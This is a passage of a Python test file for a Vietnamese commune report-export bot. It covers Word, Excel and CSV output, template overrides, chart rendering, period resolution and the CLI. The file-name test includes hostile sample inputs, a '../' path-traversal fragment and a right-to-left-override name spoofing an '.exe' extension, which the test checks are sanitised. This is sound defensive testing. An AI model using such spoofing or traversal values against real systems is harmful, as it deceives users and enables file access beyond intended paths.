    d = docx.Document(io.BytesIO(export(session, seeded, "docx").content))
    assert d.tables[0].cell(0, 0).paragraphs[0].text == "CÔNG AN TỈNH ……"


def _template_copy(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    import shutil

    from bot.texts import templates

    root = tmp_path / "templates"
    shutil.copytree(ROOT / "templates", root)
    monkeypatch.setattr(templates, "_current", templates.Renderer(shipped=root))
    return root


def test_commune_edits_its_word_template(
    session: Session, seeded: Seeded, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    root = _template_copy(tmp_path, monkeypatch)
    own = root / "export" / "communes" / "hiep-luc"
    own.mkdir(parents=True)
    (own / "report_body.txt").write_text(
        "## I. RIÊNG CỦA XÃ\n"
        'Số buổi tuyên truyền: {{ q["so_buoi_tuyen_truyen"].total | vn_number }} buổi.\n'
        "[[BANG_TIEN_DO]]\n",
        encoding="utf-8",
    )
    d = docx.Document(io.BytesIO(export(session, seeded, "docx").content))
    total = expected_totals(session, seeded.form, seeded.period)["so_buoi_tuyen_truyen"]
    texts = [p.text for p in d.paragraphs if p.text.strip()]
    assert texts[2:4] == ["I. RIÊNG CỦA XÃ", f"Số buổi tuyên truyền: {total} buổi."]
    assert len(d.tables) == 3  # header, completeness table, closing


def test_the_deployments_template_dir_overrides_the_word_body(
    session: Session, seeded: Seeded, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """BAOCAO_TEMPLATES_DIR/<commune>/export/report_body.txt wins over the shipped text, as the README says."""
    from bot.texts import templates

    own = tmp_path / "hiep-luc" / "export"
    own.mkdir(parents=True)
    (own / "report_body.txt").write_text(
        "## I. MẪU CỦA TỈNH\nNội dung riêng.\n[[BANG_TIEN_DO]]\n", encoding="utf-8"
    )
    monkeypatch.setattr(templates, "_current", templates.Renderer(tmp_path))
    d = docx.Document(io.BytesIO(export(session, seeded, "docx").content))
    texts = [p.text for p in d.paragraphs if p.text.strip()]
    assert texts[2:4] == ["I. MẪU CỦA TỈNH", "Nội dung riêng."]
    monkeypatch.setattr(templates, "_current", templates.Renderer())
    d = docx.Document(io.BytesIO(export(session, seeded, "docx").content))
    assert "I. MẪU CỦA TỈNH" not in [p.text for p in d.paragraphs]


def test_broken_template_is_reported_with_its_line(
    session: Session, seeded: Seeded, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    root = _template_copy(tmp_path, monkeypatch)
    (root / "export" / "report_body.txt").write_text("Dòng một\n{{ khong_co_bien }}\n", encoding="utf-8")
    with pytest.raises(ExportError, match=r"report_body\.txt, dòng 2"):
        export(session, seeded, "docx")


# ---------------------------------------------------------------------------------------------- charts


def _png_size(content: bytes) -> tuple[int, int]:
    assert content[:8] == PNG_SIGNATURE and content[12:16] == b"IHDR"
    return struct.unpack(">II", content[16:24])


def test_charts_are_png(session: Session, seeded: Seeded) -> None:
    done = completeness(session, seeded.period, EXPORT_NOW, progress=False)
    width, height = _png_size(completeness_chart(done, tz=TZ))
    assert 600 <= width <= 1400 and 300 <= height <= 2000
    indicators = indicator_totals(session, seeded.period, seeded.form)
    width, height = _png_size(
        indicators_chart(indicators, period_label=seeded.period.label, previous_label=seeded.previous.label)
    )
    assert 600 <= width <= 1600 and height > 300
    assert _png_size(indicators_chart([], period_label="Kỳ trống"))[0] > 0


def test_charts_draw_dollar_signs_and_backslashes_as_text(session: Session, seeded: Seeded) -> None:
    seeded.villages[0].name = "Thôn $\\frac{$ và $x^2$"
    seeded.villages[1].name = "\x01Thôn $$"
    session.add_all(seeded.villages[:2])
    session.commit()
    done = completeness(session, seeded.period, EXPORT_NOW, progress=False)
    assert _png_size(completeness_chart(done))[0] > 0  # mathtext would raise on these names
    indicators = indicator_totals(session, seeded.period, seeded.form)
    assert _png_size(indicators_chart(indicators, period_label="Kỳ $\\frac{", previous_label="$"))[0] > 0


def test_completeness_chart_of_a_large_commune_keeps_the_counts_only(
    session: Session, seeded: Seeded
) -> None:
    for n in range(70):
        session.add(
            Village(
                commune_id=seeded.commune.id,
                name=f"Tổ dân phố {n}",
                created_at=SETUP_NOW,
                updated_at=SETUP_NOW,
            )
        )
    session.commit()
    done = completeness(session, seeded.period, EXPORT_NOW, progress=False)
    assert done.total == 84
    _, height = _png_size(completeness_chart(done))
    assert height < 400  # no per-village panel for 84 villages


# ---------------------------------------------------------------------------------------------- choosing, names, CLI


def test_resolve_defaults_and_lists_valid_ids(session: Session, seeded: Seeded) -> None:
    form, period = resolve(session, seeded.commune, None, None, EXPORT_NOW)
    assert (form.id, period.code) == (FORM_ID, "2026-6T")
    form, period = resolve(session, seeded.commune, "bao-cao-nam", None, EXPORT_NOW)
    assert (form.id, period.code) == ("bao-cao-nam", "2025-CN")
    with pytest.raises(ExportError) as wrong:
        resolve(session, seeded.commune, None, "2099-6T", EXPORT_NOW)
    assert wrong.value.periods == ["2026-6T", "2025-6T"] and FORM_ID in wrong.value.forms
    with pytest.raises(ExportError) as wrong:
        resolve(session, seeded.commune, "su-co", None, EXPORT_NOW)
    assert wrong.value.forms == [FORM_ID, "bao-cao-nam"]
    with pytest.raises(ExportError):
        build_export(session, seeded.commune, seeded.form, seeded.period, "pdf", EXPORT_NOW)
    assert normalise_format("Excel") == "xlsx" and normalise_format(".DOCX") == "docx"
    assert normalise_format("pdf") is None


def test_one_period_resolution_for_summary_and_export(session: Session, seeded: Seeded) -> None:
    from bot.services.forms import PeriodChoiceError, resolve_args, resolve_period

    cid = seeded.commune.id
    choice = resolve_args(session, cid, [], EXPORT_NOW)
    assert (choice.form.id, choice.period.code) == (FORM_ID, "2026-6T")
    assert [f.id for f in choice.forms] == [FORM_ID, "bao-cao-nam"]
    assert resolve_args(session, cid, ["BAO-CAO-NAM"], EXPORT_NOW).period.code == "2025-CN"
    assert (
        resolve_args(session, cid, ["2025-cn"], EXPORT_NOW).form.id == "bao-cao-nam"
    )  # found in another form
    assert resolve_args(session, cid, [" bao-cao-6-thang ", "2025-6T"], EXPORT_NOW).period.code == "2025-6T"
    before = seeded.period.opens_at - timedelta(days=1)  # 2026-6T not open yet: the summary still shows it …
    assert resolve_period(session, cid, before).period.code == "2025-6T"
    assert resolve_period(session, cid, before, period_arg="2026-6T").period.code == "2026-6T"
    with pytest.raises(PeriodChoiceError) as wrong:  # … an export does not
        resolve_period(session, cid, before, period_arg="2026-6T", opened_only=True)
    assert wrong.value.code == "unknown_period" and "2026-6T" not in wrong.value.periods
    with pytest.raises(PeriodChoiceError) as wrong:
        resolve_args(session, cid, ["khong-co", "2026-6T"], EXPORT_NOW)
    assert wrong.value.code == "unknown_form" and wrong.value.forms == [FORM_ID, "bao-cao-nam"]
    periods = wrong.value.periods  # the main form's, newest first (future ones too: not opened_only)
    assert periods.index("2026-6T") < periods.index("2025-6T") and "2025-CN" not in periods
    with pytest.raises(PeriodChoiceError) as wrong:
        resolve_args(session, cid, ["bao-cao-nam", "2026-6T"], EXPORT_NOW)
    assert wrong.value.code == "unknown_period" and wrong.value.periods == ["2027-CN", "2026-CN", "2025-CN"]
    assert [f.id for f, _ in wrong.value.choices] == [FORM_ID, "bao-cao-nam"]


def test_file_names() -> None:
    title = "Báo cáo 6 tháng về phong trào toàn dân bảo vệ ANTQ"
    assert (
        export_filename(title, "Xã Hiệp Lực", "2026-6T", "xlsx")
        == "Báo cáo 6 tháng — Xã Hiệp Lực — 2026-6T.xlsx"
    )
    assert (
        ascii_filename("bao-cao-6-thang", "hiep-luc", "2026-6T", "xlsx")
        == "bao-cao-6-thang_hiep-luc_2026-6T.xlsx"
    )
    assert export_filename('A/B:C*?"<>|\x00', "Xã\tX", "../2026", "csv") == "A B C — Xã X — 2026.csv"
    assert export_filename("Báo cáo", "Xã \u202excslx.exe", "1", "csv") == "Báo cáo — Xã xcslx.exe — 1.csv"
    assert ascii_filename("Đặc biệt", "Xã Đồng Tâm", "2026 6T", "docx") == "dac-biet_xa-dong-tam_2026-6T.docx"


def _cli(tmp_path: Path, database_url: str, *argv: str) -> int:
    parser = argparse.ArgumentParser()
    add_export_parser(parser.add_subparsers())
    args = parser.parse_args(["export", *argv])
    return resolve_command(args)(args, settings_from({"DATABASE_URL": database_url}))


def test_cli_writes_the_same_file(
    seeded: Seeded, tmp_path: Path, database_url: str, engine: Any, capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:  # fmt: skip
    out = tmp_path / "bao-cao.xlsx"
    assert _cli(tmp_path, database_url, "--commune", "hiep-luc", "--period", "2026-6T", "-o", str(out)) == 0
    ws = workbook(out.read_bytes())["Các thôn"]
    assert ws.max_row == 16 and ws.cell(1, 2).value == "Thôn, tổ dân phố"
    assert "Đã ghi" in capsys.readouterr().out

    monkeypatch.chdir(tmp_path)
    assert (
        _cli(tmp_path, database_url, "--commune", "Xã Hiệp Lực", "--format", "docx", "--period", "2026-6T")
        == 0
    )
    assert (tmp_path / "Báo cáo 6 tháng — Xã Hiệp Lực — 2026-6T.docx").is_file()
    assert _cli(tmp_path, database_url, "--commune", "hiep-luc", "--period", "2026-6T", "--ascii-name",
                "-o", str(tmp_path), "--format", "csv") == 0  # fmt: skip
    assert (tmp_path / "bao-cao-6-thang_hiep-luc_2026-6T.csv").read_bytes().startswith(b"\xef\xbb\xbf")

    assert _cli(tmp_path, database_url, "--commune", "hiep-luc", "--period", "2031-6T") == 1
    err = capsys.readouterr().err
    assert "Không có kỳ “2031-6T”" in err and "2026-6T" in err
    with session_scope(engine) as s:
        from storage.models import AuditLog

        assert len(s.exec(select(AuditLog).where(AuditLog.action == "export")).all()) == 3


def test_cmd_export_is_the_parser_default() -> None:
    parser = argparse.ArgumentParser()
    add_export_parser(parser.add_subparsers())
    args = parser.parse_args(["export", "--commune", "x"])
    assert resolve_command(args) is cmd_export and args.format is None and args.output is None
